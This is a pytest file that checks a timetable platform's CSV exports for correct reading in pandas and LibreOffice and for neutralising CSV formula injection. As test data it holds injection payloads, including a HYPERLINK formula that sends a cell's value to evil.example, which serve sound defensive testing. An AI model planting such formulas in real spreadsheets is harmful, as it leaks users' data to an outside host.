"""CSV exports as pandas and LibreOffice Calc read them (issue 16 item 6) and CSV formula injection
(issue 11 item 1): neutralised in every CSV the platform writes, JSON and iCalendar unchanged."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest

from tests.api.conftest import PREFIX, Api
from tests.exports.cases import TERM
from timetable_platform.cli import main
from timetable_platform.domain.exports import CSV_FIELDS, FORMULA_TRIGGERS, ExportOptions, render
from timetable_platform.domain.model import Entry, Timetable

OPTIONS = ExportOptions(term=TERM)
HOSTILE = (
    '=HYPERLINK("http://evil.example/x?d="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd",
    "\rcmd",
)


def _spreadsheet_timetable() -> Timetable:
    return Timetable(
        entries=[
            Entry(
                day="MON",
                start="08:50",
                end="09:40",
                period="1.",
                subject="Große Pause",
                room="274",
                teacher="Zoë",
            ),
            Entry(
                day="MON", start="09:40", end="10:30", period="007", subject="Maths", room="1/2", group="7-3"
            ),
        ]
    )


def _hostile_timetable() -> Timetable:
    return Timetable(
        entries=[
            Entry(day="MON", start="09:00", end="10:00", subject=text, teacher=text, notes=text, room="R1")
            for text in HOSTILE
        ]
    )


def test_plain_csv_reads_back_exactly_in_pandas() -> None:
    text = render("csv", _spreadsheet_timetable(), OPTIONS).decode()
    assert not text.startswith("\ufeff")
    frame = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert tuple(frame.columns) == CSV_FIELDS
    assert frame.loc[0, ["period", "subject", "room", "teacher"]].tolist() == [
        "1.",
        "Große Pause",
        "274",
        "Zoë",
    ]


def test_csv_for_spreadsheets_opens_with_accents_and_text_kept_in_libreoffice(tmp_path: Path) -> None:
    from tests.exports.consumers import libreoffice_cells

    payload = render("csv-excel", _spreadsheet_timetable(), OPTIONS)
    assert payload.startswith("\ufeff".encode())  # Excel reads UTF-8 only with a byte-order mark
    frame = pd.read_csv(io.BytesIO(payload), encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert tuple(frame.columns) == CSV_FIELDS
    cells = libreoffice_cells(payload.decode("utf-8"), tmp_path)
    header = [value for value, _ in cells[0]]
    assert header == list(CSV_FIELDS)
    row = dict(zip(header, cells[1], strict=True))
    for field, printed in (("start", "08:50"), ("period", "1."), ("room", "274"), ("subject", "Große Pause")):
        assert row[field] == (printed, "s"), field
    second = dict(zip(header, cells[2], strict=True))
    assert (second["period"], second["room"], second["group"]) == (("007", "s"), ("1/2", "s"), ("7-3", "s"))
    # the plain CSV is for programs: a spreadsheet turns the same cells into numbers
    plain = dict(
        zip(
            header,
            libreoffice_cells(render("csv", _spreadsheet_timetable(), OPTIONS).decode(), tmp_path)[1],
            strict=True,
        )
    )
    assert plain["room"] == (274, "n")


@pytest.mark.parametrize("name", ["csv", "csv-excel"])
def test_formula_cells_are_neutralised_and_show_as_typed(name: str) -> None:
    payload = render(name, _hostile_timetable(), OPTIONS).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(payload)))
    for row, text in zip(rows, HOSTILE, strict=True):
        for field in ("subject", "teacher", "notes"):
            cell = row[field]
            assert not cell.startswith(FORMULA_TRIGGERS) or cell == f'="{text}"', (field, cell)
            assert cell in ("'" + text, f'="{text}"')


def test_libreoffice_runs_no_formula_from_a_hostile_timetable(tmp_path: Path) -> None:
    from tests.exports.consumers import libreoffice_cells

    for name in ("csv", "csv-excel"):
        cells = libreoffice_cells(render(name, _hostile_timetable(), OPTIONS).decode("utf-8-sig"), tmp_path)
        header = [value for value, _ in cells[0]]
        for row, text in zip(cells[1:], HOSTILE, strict=True):
            value, kind = dict(zip(header, row, strict=True))["subject"]
            # shown as the text typed (LibreOffice reads a carriage return as a line break)
            assert kind == "s" and str(value).removeprefix("'").replace("\n", "\r") in (text, f'="{text}"')


def test_json_and_icalendar_keep_the_text_as_printed() -> None:
    timetable = _hostile_timetable()
    data = json.loads(render("json", timetable, OPTIONS))
    assert [e["subject"] for e in data["entries"]] == list(HOSTILE)
    import icalendar

    events = icalendar.Calendar.from_ical(render("ics", timetable, OPTIONS)).walk("VEVENT")
    # iCalendar has one line break; icalendar reads a carriage return back as a newline
    assert {str(e["SUMMARY"]).replace("\n", "\r") for e in events} == set(HOSTILE)


def test_csv_from_the_api_a_share_link_and_the_cli_is_neutralised(api: Api, tmp_path: Path) -> None:
    key = api.new_key("school")
    upload_id = api.submit(key).json()["upload_id"]
    api.finish(upload_id, _hostile_timetable())
    by_key = api.client.get(f"{PREFIX}/uploads/{upload_id}/timetable", params={"format": "csv"}, headers=key)
    share = api.client.post(f"{PREFIX}/uploads/{upload_id}/share", headers=key).json()["url"]
    query = share.split("?", 1)[1]
    by_link = api.client.get(f"{PREFIX}/uploads/{upload_id}/timetable?format=csv-excel&{query}")
    assert by_key.status_code == by_link.status_code == 200
    for response in (by_key, by_link):
        subjects = [r["subject"] for r in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))]
        assert subjects and all(not s.startswith(FORMULA_TRIGGERS) or s.startswith('="') for s in subjects)
        assert not any(s.startswith("=HYPERLINK") for s in subjects)

    document = tmp_path / "hostile.csv"
    document.write_text(
        'day,start,end,subject,teacher\nMON,08:30,09:30,French,"=HYPERLINK(""http://evil.example"")"\n'
    )
    output = tmp_path / "out.csv"
    assert (
        main(["extract", str(document), "--mode", "document_ai", "--format", "csv", "-q", "-o", str(output)])
        == 0
    )
    rows = list(csv.DictReader(io.StringIO(output.read_text())))
    assert rows[0]["teacher"] == '\'=HYPERLINK("http://evil.example")'
